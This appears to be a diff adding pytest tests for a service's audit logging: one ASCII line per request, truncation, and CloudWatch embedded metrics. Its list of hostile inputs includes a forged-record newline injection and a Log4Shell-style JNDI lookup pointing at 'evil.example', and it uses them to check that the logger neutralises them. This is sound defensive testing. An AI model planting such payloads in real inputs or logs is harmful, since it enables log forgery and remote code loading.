@@ -1,0 +1,69 @@
+"""One record a request, on one line, with nothing secret; and metrics in CloudWatch's embedded format."""
+
+import json
+from typing import Any
+
+import pytest
+
+from studio_gate import audit
+from studio_gate.errors import GateError, Problem
+
+
+def written(capsys: pytest.CaptureFixture[str], record: audit.Record) -> tuple[dict[str, Any], dict[str, Any]]:
+    """Write a record; read both lines back."""
+    audit.write(record, 403, 0.0125)
+    first, second = capsys.readouterr().out.splitlines()
+    return json.loads(first)["audit"], json.loads(second)
+
+
+def test_a_new_record_says_when(capsys: pytest.CaptureFixture[str]) -> None:
+    record, _ = written(capsys, audit.start("request-1"))
+    assert record["request_id"] == "request-1"
+    assert record["time"].endswith("Z")
+    assert (record["status"], record["duration_ms"], record["audit_version"]) == (403, 12, 1)
+
+
+NAUGHTY = {
+    "a newline": 'alice\n{"audit": {"outcome": "minted"}}',
+    "a carriage return": "alice\rbob",
+    "a line separator": "alice\u2028bob",
+    "an escape sequence": "\x1b[2Jalice",
+    "a NUL": "alice\0",
+    "text from right to left": "\u202ealice",
+    "half a surrogate pair": "\ud800alice",
+    "a template": "${jndi:ldap://evil.example/a} {0} %s %n",
+}
+
+
+@pytest.mark.parametrize("text", NAUGHTY.values(), ids=NAUGHTY.keys())
+def test_whatever_is_recorded_stays_on_one_line_of_ascii(capsys: pytest.CaptureFixture[str], text: str) -> None:
+    record = audit.start("request-1")
+    record.profile = record.signer = text
+    record.failed(GateError(Problem.REFUSED, text))
+    audit.write(record, 403, 0)
+    out = capsys.readouterr().out
+    assert out.isascii()
+    assert len(out.splitlines()) == 2
+    assert json.loads(out.splitlines()[0])["audit"]["profile"] == text
+
+
+def test_long_texts_are_cut(capsys: pytest.CaptureFixture[str]) -> None:
+    record = audit.start("request-1")
+    record.destination = "d" * 10_000
+    record.policy_errors = ["e" * 10_000]
+    read, _ = written(capsys, record)
+    assert (len(read["destination"]), len(read["policy_errors"][0])) == (512, 512)
+
+
+@pytest.mark.parametrize(("outcome", "minted"), [("minted", 1), ("refused", 0), ("answered", 0)])
+def test_metrics_count_requests_and_mints_by_outcome(
+    capsys: pytest.CaptureFixture[str], outcome: str, minted: int
+) -> None:
+    record = audit.start("request-1")
+    record.outcome = outcome
+    _, metrics = written(capsys, record)
+    (directive,) = metrics["_aws"]["CloudWatchMetrics"]
+    assert directive["Namespace"] == "StudioGate"
+    assert set(directive["Dimensions"][0]) == {"service", "outcome"}
+    assert (metrics["service"], metrics["outcome"]) == ("gate", outcome)
+    assert (metrics["Requests"], metrics["Minted"], metrics["Duration"]) == ([1], [minted], [12])
